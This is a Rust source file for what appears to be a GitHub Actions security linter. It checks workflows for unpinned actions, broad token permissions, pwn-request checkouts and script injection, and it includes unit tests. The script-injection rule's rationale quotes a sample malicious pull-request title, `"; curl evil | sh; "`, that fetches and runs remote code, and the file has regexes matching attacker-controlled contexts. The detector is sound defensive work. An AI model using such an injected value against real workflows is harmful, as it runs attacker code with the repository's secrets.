//! Workflow audits: pinned actions, least-privilege tokens, dangerous
//! triggers and script injection.

use std::sync::LazyLock;

use regex::Regex;

use super::check_finding;
use crate::facts::{Permissions, Spanned, Workflow};
use crate::finding::{Finding, RuleId, Severity};
use crate::rules::Context;
use crate::rules::registry::RuleInfo;

pub const UNPINNED_ACTION: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/unpinned-action"),
    default_severity: Severity::Error,
    summary: "a workflow `uses:` is not pinned to a full 40-hex commit SHA (local `./` actions and digest-pinned `docker://` images are fine)",
    rationale: "Tags and branches are mutable: whoever controls the action's repository (or steals its credentials) can move `v4` to malicious code that then runs with your workflow's token and secrets. A commit SHA cannot be moved.",
    fix: "Pin to the full commit SHA of the release and keep the tag as a comment (`uses: actions/checkout@<40-hex sha> # v5.0.0`); Dependabot and Renovate update both.",
    example: "requirements:\n  - check: unpinned-action",
};

pub const WORKFLOW_PERMISSIONS: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/workflow-permissions"),
    default_severity: Severity::Warning,
    summary: "a workflow has no top-level `permissions:` (and not every job declares its own), uses `write-all`, or grants write scopes to every job",
    rationale: "Without `permissions:` the GITHUB_TOKEN gets the repository's default scopes, which may include write access to code and releases. Least privilege limits what a compromised step can do.",
    fix: "Add `permissions: { contents: read }` at the top of the workflow and grant write scopes only in the jobs that need them.",
    example: "requirements:\n  - check: workflow-permissions",
};

pub const DANGEROUS_TRIGGER: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/dangerous-trigger"),
    default_severity: Severity::Error,
    summary: "a `pull_request_target` or `workflow_run` workflow checks out the untrusted head of a pull request",
    rationale: "These triggers run with the base repository's secrets and a write token. Checking out and building the pull request's code there lets any fork run code with those privileges (a \"pwn request\").",
    fix: "Use `pull_request` for building untrusted code; if `pull_request_target` is needed, do not check out the head ref, or split privileged steps into a separate `workflow_run` that only consumes artifacts.",
    example: "requirements:\n  - check: dangerous-trigger",
};

pub const SCRIPT_INJECTION: RuleInfo = RuleInfo {
    id: RuleId::new("PSCF-SPM-MAR/script-injection"),
    default_severity: Severity::Error,
    summary: "an attacker-controlled `${{ github.event.* }}` expression (title, body, branch name, commit message…) is expanded inside `run:`",
    rationale: "`${{ }}` is substituted into the script before the shell runs it, so a pull-request title such as `\"; curl evil | sh; \"` becomes code in your job.",
    fix: "Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo \"$TITLE\"`.",
    example: "requirements:\n  - check: script-injection",
};

/// Every workflow audit over one workflow or composite action.
pub(super) fn check(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    unpinned_actions(ctx, workflow, out);
    if workflow.is_workflow {
        permissions(ctx, workflow, out);
        dangerous_trigger(ctx, workflow, out);
    }
    script_injection(ctx, workflow, out);
}

fn all_uses(workflow: &Workflow) -> impl Iterator<Item = &Spanned> {
    let jobs = workflow.jobs.iter().filter_map(|j| j.uses.as_ref());
    jobs.chain(
        workflow
            .jobs
            .iter()
            .flat_map(|j| &j.steps)
            .filter_map(|s| s.uses.as_ref()),
    )
}

fn is_hex(s: &str, len: usize) -> bool {
    s.len() == len && s.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Whether a `uses:` is immutable: a full commit SHA, a local action, or a
/// `docker://` image with a digest.
fn is_pinned(uses: &str) -> bool {
    if uses.starts_with("./") {
        return true;
    }
    if let Some(image) = uses.strip_prefix("docker://") {
        return image
            .split_once("@sha256:")
            .is_some_and(|(_, digest)| is_hex(digest, 64));
    }
    uses.rsplit_once('@')
        .is_some_and(|(_, reference)| is_hex(reference, 40))
}

fn unpinned_actions(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    for uses in all_uses(workflow).filter(|u| !is_pinned(&u.value)) {
        let (message, help) = if uses.value.starts_with("docker://") {
            (
                format!("`{}` is not pinned to an image digest", uses.value),
                "pin the image by digest: `docker://image:tag@sha256:<64 hex>`".to_owned(),
            )
        } else {
            let name = uses.value.split('@').next().unwrap_or(&uses.value);
            let tag = uses
                .value
                .rsplit_once('@')
                .map(|(_, t)| format!(" # {t}"))
                .unwrap_or_default();
            (
                format!("`{}` is not pinned to a commit SHA", uses.value),
                format!("pin it to the release's full commit SHA: `{name}@<40-hex sha>{tag}`"),
            )
        };
        out.extend(check_finding(
            ctx,
            &UNPINNED_ACTION,
            &uses.location,
            &uses.value,
            message,
            help,
        ));
    }
}

fn permissions(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let every_job_declares =
        !workflow.jobs.is_empty() && workflow.jobs.iter().all(|j| j.permissions.is_some());
    match &workflow.permissions {
        None if !every_job_declares => out.extend(check_finding(
            ctx,
            &WORKFLOW_PERMISSIONS,
            &workflow.head,
            "missing",
            "no top-level `permissions:`: the GITHUB_TOKEN gets the repository's default scopes"
                .to_owned(),
            "add `permissions: { contents: read }` at the top and grant write scopes per job"
                .to_owned(),
        )),
        Some(Permissions::Scopes(scopes)) => {
            for (scope, level, at) in scopes.iter().filter(|(_, level, _)| level == "write") {
                out.extend(check_finding(
                    ctx,
                    &WORKFLOW_PERMISSIONS,
                    at,
                    scope,
                    format!("`{scope}: {level}` is granted to every job of the workflow"),
                    format!("move `{scope}: write` into the job that needs it"),
                ));
            }
        }
        _ => {}
    }
    let declared =
        std::iter::once(&workflow.permissions).chain(workflow.jobs.iter().map(|j| &j.permissions));
    for p in declared.flatten() {
        if let Permissions::Scalar(value, at) = p
            && value == "write-all"
        {
            out.extend(check_finding(
                ctx,
                &WORKFLOW_PERMISSIONS,
                at,
                "write-all",
                "`permissions: write-all` gives the token every write scope".to_owned(),
                "list only the scopes the job needs, e.g. `{ contents: read, pull-requests: write }`".to_owned(),
            ));
        }
    }
}

/// Refs that name the pull request's head (fork) code.
static UNTRUSTED_REF: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs/pull/|github\.event\.pull_request\.merge_commit_sha|github\.event\.pull_request\.head\.repo\.full_name").ok()
});

fn dangerous_trigger(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let Some(trigger) = workflow
        .triggers
        .iter()
        .find(|t| *t == "pull_request_target" || *t == "workflow_run")
    else {
        return;
    };
    let Some(untrusted) = UNTRUSTED_REF.as_ref() else {
        return;
    };
    for step in workflow.jobs.iter().flat_map(|j| &j.steps) {
        let is_checkout = step
            .uses
            .as_ref()
            .is_some_and(|u| u.value.starts_with("actions/checkout@"));
        if !is_checkout {
            continue;
        }
        for (key, value) in step
            .with
            .iter()
            .filter(|(k, _)| k == "ref" || k == "repository")
        {
            if untrusted.is_match(&value.value) {
                out.extend(check_finding(
                    ctx,
                    &DANGEROUS_TRIGGER,
                    &value.location,
                    &format!("{trigger} {key}"),
                    format!("`{trigger}` workflow checks out the pull request's head (`{key}: {}`) with the base repository's secrets", value.value),
                    "build untrusted code under `pull_request`, or do not check out the head in this workflow".to_owned(),
                ));
            }
        }
    }
}

/// Contexts an outsider controls (titles, bodies, branch names, commit
/// messages and authors), after the list Scorecard and zizmor use.
static ATTACKER_CONTROLLED: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"github\.head_ref|toJSON\(\s*github(\.event)?\s*\)|github\.event\.(",
        r"(issue|pull_request|discussion)\.(title|body)|comment\.body|review\.body|review_comment\.body|",
        r"pages(\.[^.\s]+|\[[^\]]*\])\.page_name|commits(\.[^.\s]+|\[[^\]]*\])\.(message|author\.(email|name))|",
        r"head_commit\.(message|author\.(email|name))|",
        r"pull_request\.head\.(ref|label|repo\.default_branch)|",
        r"workflow_run\.(head_branch|head_commit\.(message|author\.(email|name))|display_title)",
        r")"
    ))
    .ok()
});

fn script_injection(ctx: &Context<'_>, workflow: &Workflow, out: &mut Vec<Finding>) {
    let Some(attacker) = ATTACKER_CONTROLLED.as_ref() else {
        return;
    };
    for expression in workflow
        .jobs
        .iter()
        .flat_map(|j| &j.steps)
        .flat_map(|s| &s.script_expressions)
    {
        let Some(found) = attacker.find(&expression.value) else {
            continue;
        };
        let context = found.as_str();
        let variable = context
            .rsplit('.')
            .next()
            .unwrap_or("VALUE")
            .to_ascii_uppercase()
            .replace(|c: char| !c.is_ascii_alphanumeric(), "_");
        out.extend(check_finding(
            ctx,
            &SCRIPT_INJECTION,
            &expression.location,
            &expression.value,
            format!("`${{{{ {} }}}}` expands attacker-controlled `{context}` into a script", expression.value),
            format!("pass it through the environment: `env: {{ {variable}: ${{{{ {context} }}}} }}` and use \"${variable}\" in the script"),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pinning() {
        assert!(is_pinned(
            "actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8"
        ));
        assert!(!is_pinned("actions/checkout@v4"));
        assert!(!is_pinned("actions/checkout@08c6903"));
        assert!(is_pinned("./.github/actions/x"));
        assert!(!is_pinned("docker://alpine:3.20"));
        assert!(is_pinned(
            "docker://alpine@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"
        ));
    }

    #[test]
    fn attacker_controlled_contexts() {
        let re = ATTACKER_CONTROLLED
            .as_ref()
            .unwrap_or_else(|| panic!("regex"));
        for bad in [
            "github.event.pull_request.title",
            "github.head_ref",
            "github.event.issue.body",
            "github.event.commits[0].message",
            "github.event.commits.*.author.name",
            "github.event.pages[1].page_name",
            "toJSON(github.event)",
            "github.event.workflow_run.head_branch",
        ] {
            assert!(re.is_match(bad), "{bad}");
        }
        for fine in [
            "github.event.pull_request.number",
            "github.sha",
            "env.TITLE",
            "github.event.issue.number",
            "inputs.name",
        ] {
            assert!(!re.is_match(fine), "{fine}");
        }
        assert!(
            UNTRUSTED_REF
                .as_ref()
                .is_some_and(|r| r.is_match("${{ github.event.pull_request.head.sha }}"))
        );
    }
}
